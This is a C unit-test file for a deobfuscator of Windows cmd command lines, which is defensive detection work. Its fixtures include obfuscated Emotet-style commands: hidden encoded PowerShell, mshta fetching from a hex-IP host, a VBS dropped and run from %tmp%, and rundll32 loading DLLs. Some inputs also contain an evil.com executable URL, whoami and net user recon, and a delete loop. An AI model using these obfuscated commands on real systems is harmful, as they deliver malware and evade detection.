/* SPDX-License-Identifier: Apache-2.0 */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>

#include <cmocka.h>

#include "decode_test.h"

#include "base/buf.h"

#include <stdlib.h>
#include <time.h>

static void command(const char *text, const char *folded) {
    expect_layers(SEK_SCRIPT_COMMAND, text, LAYERS(folded));
}

/* The command lines of Emotet's epochs, as public notes give them (payloads shortened). */
static void emotet_command_lines(void **state) {
    (void)state;
    expect_somewhere(SEK_SCRIPT_COMMAND,
        "cmd cmd cmd cmd /c msg %username% /v Word experienced an error trying to open the file. &  "
        "P^Ow^er^she^L^L -w hidden -ENCOD                 IAAgAHMAZQB0AC0AdgBhAFIA",
        LAYERS("cmd cmd cmd cmd /c msg %username% /v Word experienced an error trying to open the file. & "
               "POwersheLL -w hidden -ENCOD IAAgAHMAZQB0AC0AdgBhAFIA"));
    command("cmd /c m^sh^t^a h^tt^p^:/^/0xb907d607/fer/fe3.html", "command: cmd /c mshta http://0xb907d607/fer/fe3.html");
    expect_somewhere(SEK_SCRIPT_COMMAND,
        "cmd.exe /v:on /c 7x||goto&p^o^w^e^r^s^h^e^l^l.e^x^e -c \"&{$DP='JABkAD0A';iex($jw)}\"",
        LAYERS("& powershell.exe -c \"&{$DP='JABkAD0A';iex($jw)}\""));
    expect_nothing(SEK_SCRIPT_COMMAND,
        "cmd.exe /v:on /c findstr \"glKmfOKnQLYKnNs.*\" \"Electronic form 04.25.2022.lnk\" > "
        "\"%tmp%\\YlScZcZKeP.vbs\" & \"%tmp%\\YlScZcZKeP.vbs\"");
    expect_nothing(SEK_SCRIPT_COMMAND,
        "cmd /c start /B c:\\windows\\syswow64\\rundll32.exe c:\\programdata\\vbkwk.dll,dfsgeresd");
    expect_nothing(SEK_SCRIPT_COMMAND,
        "cmd /c C:\\Windows\\SysWow64\\rundll32.exe 'C:\\Users\\Public\\Documents\\ssd.dll',AnyString");
}

static bool looks(const char *text, size_t n) {
    uint8_t *one = malloc(n), *two = malloc(2 * n); /* so that what is read behind the end is found out */
    for (size_t i = 0; i < n; i++) {
        one[i] = two[2 * i] = (uint8_t)text[i];
        two[2 * i + 1] = 0;
    }
    bool yes = sek_decode_looks_encoded(SEK_SCRIPT_CMD, sek_str_n((const char *)one, n));
    assert_int_equal(sek_decode_looks_encoded_utf16(SEK_SCRIPT_CMD, two, 2 * n), yes);
    free(one);
    free(two);
    return yes;
}

/* Wherever a sign stands among the units that are looked at together, it is seen, and its half is none. */
static void signs_are_seen_at_every_place(void **state) {
    (void)state;
    static const struct {
        const char *text;
        size_t needed; /* a place without which it is none */
    } signs[] = {{"^", 0}, {"x\"y", 1}, {"&,", 1}, {"PowerShell", 9}, {"pWsh", 3}, {"ScRiPt:", 6}, {"<SCRIPT", 6}, {".FOR.", 3},
                 {"%x:", 2}, {"!x:", 2}, {"set%", 2}, {"|echo", 0}};
    for (size_t k = 0; k < sizeof signs / sizeof *signs; k++)
        for (size_t n = 64; n > 0; n--)
            for (size_t at = 0, len = strlen(signs[k].text); at + len <= n; at++) {
                char text[64];
                memset(text, '.', n);
                memcpy(text + at, signs[k].text, len);
                assert_true(looks(text, n));
                text[at + signs[k].needed] = '.';
                assert_false(looks(text, n));
            }
}

static void carets_and_quotes_go(void **state) {
    (void)state;
    command("cmd /c w^h^o^a^m^i", "command: cmd /c whoami");
    command("cmd.exe /C \"w^h^oami /all\"", "command: cmd.exe /C whoami /all");
    command("C:\\Windows\\System32\\cmd.exe /c who\"am\"i", "command: C:\\Windows\\System32\\cmd.exe /c whoami");
    command("cmd /c n\"e\"t\"\" us\"\"er", "command: cmd /c net user");
    command("cmd /c ec^ho a ^& b ^> c", "command: cmd /c echo a ^& b ^> c");
    command("cmd /c dir ^^ & w^hoami", "command: cmd /c dir ^^ & whoami");
    command("cmd /c \"echo \"a^b\" & w^hoami\"", "command: cmd /c echo \"a^b\" & whoami");
    command("cmd /c,;,w^hoami", "command: cmd /c whoami");
    command("cmd;/c;;whoami", "command: cmd;/c whoami");
    command("cmd /c @w^hoami 2>&1 | f^ind \"x\"", "command: cmd /c whoami 2>&1 | find \"x\"");
}

/* A value with a reference in it that nothing here answers is known before and behind it only. */
static void cuts_spare_the_names_of_variables(void **state) {
    (void)state;
    static const char *const left[] = {"%x:~8%", "%x:~0,6%", "%x:~-30%", "%x:N=z%", "%x:*E=z%"};
    for (size_t i = 0; i < sizeof left / sizeof *left; i++) {
        char text[256], folded[256];
        (void)snprintf(text, sizeof text, "cmd /c \"set x=ab%%USERNAME%%http://evil.com/a.exe&& call w^ho %s\"", left[i]);
        (void)snprintf(folded, sizeof folded, "command?: cmd /c set x=ab%%USERNAME%%http://evil.com/a.exe && who %s", left[i]);
        command(text, folded);
    }
    command("cmd /c \"set x=abc%USERNAME%whoami&& call %x:~0,2%%x:~-6%\"", "command: cmd /c set x=abc%USERNAME%whoami && abwhoami");
    command("cmd /c \"set x=%comspec%whoami&& call %x:~27%\"", "command: cmd /c set x=%comspec%whoami && whoami");
    command("cmd /c \"set x=%USERNAME%who&& call %x%ami\"", "command: cmd /c set x=%USERNAME%who && %USERNAME%whoami");
    command("cmd /v:on /c \"set x=!USERNAME!whoami&& w^ho !x:~3!\"", "command?: cmd /v:on /c set x=!USERNAME!whoami && who !x:~3!");
    command("cmd /c \"for /f \"tokens=2 delims=E\" %a in (\"%USERNAME%\") do w^ho %a\"",
            "command?: cmd /c for /f \"tokens=2 delims=E\" %a in (\"%USERNAME%\") do who %a");
}

static void variables_are_followed(void **state) {
    (void)state;
    command("cmd /c \"set a=who&&call %a%ami\"", "command: cmd /c set a=who && whoami");
    command("cmd /v:on /c \"set x=whoami&&!x! /all\"", "command: cmd /v:on /c set x=whoami && whoami /all");
    command("cmd /V/C\"set x=imaohw&&!x:~5,1!!x:~4,1!!x:~3,1!!x:~2,1!!x:~1,1!!x:~0,1!\"",
            "command: cmd /V/C set x=imaohw && whoami");
    command("cmd /c \"set x=whoXami&&call %x:X=%\"", "command: cmd /c set x=whoXami && whoami");
    command("cmd /c %comspec:~-7,1%alc.exe", "command: cmd /c calc.exe");
    command("cmd /c \"%ProgramData:~0,1%%ProgramData:~8,1%lc\"", "command: cmd /c Calc");
    command("cmd /c echo %TMP:~-4%x", "command: cmd /c echo Tempx");
    expect_layers(SEK_SCRIPT_COMMAND, "cmd /c \"set a=w^hoami&&cmd /c %a%\"",
                  LAYERS("command: cmd /c set a=whoami && cmd /c %a%", "command: cmd /c whoami"));
    command("cmd /c \"set \"a=who\" junk&&call %a%ami\"", "command: cmd /c set \"a=who\" junk && whoami");
    /* Without call, delayed expansion or another cmd, %a% is read before it is set. */
    expect_nothing(SEK_SCRIPT_COMMAND, "cmd /c \"set a=who&& %a%ami\"");
    expect_nothing(SEK_SCRIPT_COMMAND, "cmd /c \"set a=who&& !a!ami\"");
    expect_nothing(SEK_SCRIPT_COMMAND, "cmd /c echo %TEMP% %USERNAME% %nosuch:~1,2%");
    expect_layers(SEK_SCRIPT_CMD, "set a=who\r\n%a%ami\r\n", LAYERS("cmd: set a=who\nwhoami"));
}

static void what_is_not_known_stays(void **state) {
    (void)state;
    expect_layers(SEK_SCRIPT_COMMAND, "cmd /v /c \"set /p a=x&set b=who&!b!ami !a!\"",
                  LAYERS("command?: cmd /v /c set /p a=x & set b=who & whoami !a!"));
    expect_layers(SEK_SCRIPT_COMMAND, "cmd /v /c \"set a=x&if exist z (set a=y)&w^hoami !a!\"",
                  LAYERS("command?: cmd /v /c set a=x & if exist z (set a=y) & whoami !a!"));
    expect_layers(SEK_SCRIPT_COMMAND, "cmd /v /c \"set a=x&z||set a=y&w^hoami !a!\"",
                  LAYERS("command?: cmd /v /c set a=x & z || set a=y & whoami !a!"));
    expect_somewhere(SEK_SCRIPT_COMMAND, "cmd /c \"w^hoami&for /f %a in ('dir /b') do del %a\"", LAYERS("del %a"));
}

static void loops_are_unrolled(void **state) {
    (void)state;
    command("cmd /V:ON/C\"set x=imaohw&&for %a in (5,4,3,2,1,0,1337) do set y=!y!!x:~%a,1!&&if %a geq 1337 call %y:~-6%\"",
            "command: cmd /V:ON/C set x=imaohw && whoami");
    command("cmd /v /c \"set x=imaohw&for /l %a in (5,-1,0) do set y=!y!!x:~%a,1!&if %a==0 !y:~-6!\"",
            "command: cmd /v /c set x=imaohw & whoami");
    command("cmd /c \"for /f \"tokens=1,3 delims=x\" %a in (\"whoxjunkxami\") do %a%b\"", "command: cmd /c whoami");
    command("cmd /c \"for /f \"tokens=2*\" %a in (\"a who ami /all\") do %a%b\"", "command: cmd /c whoami /all");
    command("cmd /c \"for %%a in (whoami) do %%a %%~a\"", "command: cmd /c whoami whoami");
    command("cmd /c \"for %p in (whoami) do %p %PUBLIC%\"", "command: cmd /c whoami %PUBLIC%");
    command("cmd /c \"for /f %a in ('echo who') do %aami\"", "command: cmd /c whoami");
}

static void pipes_and_nested_interpreters_are_followed(void **state) {
    (void)state;
    expect_layers(SEK_SCRIPT_COMMAND, "cmd /v /c \"set x=who^^ami&&echo !x! | cmd\"",
                  LAYERS("command: cmd /v /c set x=who^^ami && echo who^^ami | cmd", "cmd: whoami"));
    expect_layers(SEK_SCRIPT_COMMAND, "cmd /c echo Get-Date | powershell -",
                  LAYERS("powershell: Get-Date"));
    command("wmic process call create \"cmd /c w^hoami\"", "command: cmd /c whoami");
    command("schtasks /create /tn x /tr \"cmd /c \\\"w^hoami\\\"\"", "command: cmd /c whoami");
    command("cmd /c start \"\" /b cmd /c w^hoami", "command: cmd /c start \"\" /b cmd /c whoami");
    command("%COMSPEC% /b /c start /b /min w^hoami", "command: %COMSPEC% /b /c start /b /min whoami");
    expect_layers(SEK_SCRIPT_COMMAND, "mshta vbscript:Close(Execute(\"x\"))", LAYERS("vbscript: Close(Execute(\"x\"))", "vbscript: x"));
    expect_layers(SEK_SCRIPT_COMMAND, "mshta \"javascript:a=1;%20b()\"", LAYERS("jscript: a=1; b()"));
}

static void ordinary_command_lines_stay(void **state) {
    (void)state;
    static const char *const lines[] = {
        "C:\\Windows\\system32\\svchost.exe -k netsvcs -p -s Schedule",
        "C:\\Windows\\system32\\cmd.exe /c \"\"C:\\Program Files\\App\\run.bat\" \"a b\"\"",
        "cmd /c \"C:\\Program Files\\App\\run.exe\"",
        "cmd.exe /c echo %PATH%  &&  dir   C:\\x",
        "\"C:\\Program Files\\Google\\Chrome\\chrome.exe\" --type=renderer --lang=en --field=\"a,b;c\" /prefetch:1",
        "reg add HKCU\\Software\\x /v \"a\" /t REG_SZ /d \"%SystemRoot%\\x.exe\" /f",
        "cmd /c if exist x (del x) else (echo no)",
        "cmd /c for /l %i in (1,1,254) do ping -n 1 192.168.1.%i", "cmd /c for %i in (a b) do del %i",
        "for /f %i in (x) do y", "msiexec /i \"a.msi\" PROP=\"1,2\" /qn", "", "   ", "\"", "cmd", "cmd /c", "cmd /c \"\"",
        "C:\\Windows\\System32\\rundll32.exe C:\\x\\y.dll,Entry", "mshta http://a.example/b.hta",
    };
    for (size_t i = 0; i < sizeof lines / sizeof *lines; i++)
        expect_nothing(SEK_SCRIPT_COMMAND, lines[i]);
}

/* Lines that end where a switch begins: each is read to its end. */
static void a_switch_may_be_cut(void **state) {
    (void)state;
    static const char *const lines[] = {"cmd.exe /", "cmd.exe ,/", "cmd ^ /", "cmd.exe \"^\" /v:on/", "cmd /v: /", "cmd /v"};
    for (size_t i = 0; i < sizeof lines / sizeof *lines; i++)
        expect_nothing(SEK_SCRIPT_COMMAND, lines[i]);
    command("cmd /v/c ec^ho a", "command: cmd /v/c echo a");
}

/* 1 MiB of each, and no second: depth, loops and references are bounded. */
static void hostile_lines_are_bounded(void **state) {
    (void)state;
    static const char *const pieces[] = {"(", "^", "%a", "!a!", "cmd /c ", "for %a in (a b) do ", "set a=%a%%a%&call ", "\"", "|", "a||", "if 1==1 ",
                                         "echo a|cmd /v /c set a=b&", "%x:~", "for /l %a in (1,1,9999999) do "};
    for (size_t i = 0; i < sizeof pieces / sizeof *pieces; i++) {
        SekBuf text;
        SekArena arena;
        SekLayers layers;
        SekError err = {0};
        sek_buf_init(&text, 1 << 21);
        sek_buf_adds(&text, "cmd /v:on /c ");
        while (text.len < (1u << 20))
            sek_buf_adds(&text, pieces[i]);
        sek_arena_init(&arena, 0);
        SekDecodeInput input = {.text = sek_buf_str(&text), .kind = SEK_SCRIPT_COMMAND};
        clock_t start = clock();
        assert_int_equal(sek_decode(&arena, &input, &layers, &err), SEK_OK);
        double took = (double)(clock() - start) / CLOCKS_PER_SEC;
        if (took > 5.0) /* below 0.5 s; more with sanitizers */
            fail_msg("'%s' repeated to 1 MiB took %.2f s", pieces[i], took);
        print_message("%-40s %.3f s, %u layers%s\n", pieces[i], took, layers.n, layers.partial ? ", partial" : "");
        sek_arena_deinit(&arena);
        sek_buf_deinit(&text);
    }
}

int main(void) {
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(emotet_command_lines),
        cmocka_unit_test(carets_and_quotes_go),
        cmocka_unit_test(variables_are_followed),
        cmocka_unit_test(cuts_spare_the_names_of_variables),
        cmocka_unit_test(signs_are_seen_at_every_place),
        cmocka_unit_test(what_is_not_known_stays),
        cmocka_unit_test(loops_are_unrolled),
        cmocka_unit_test(pipes_and_nested_interpreters_are_followed),
        cmocka_unit_test(ordinary_command_lines_stay),
        cmocka_unit_test(a_switch_may_be_cut),
        cmocka_unit_test(hostile_lines_are_bounded),
    };
    return cmocka_run_group_tests(tests, NULL, NULL);
}
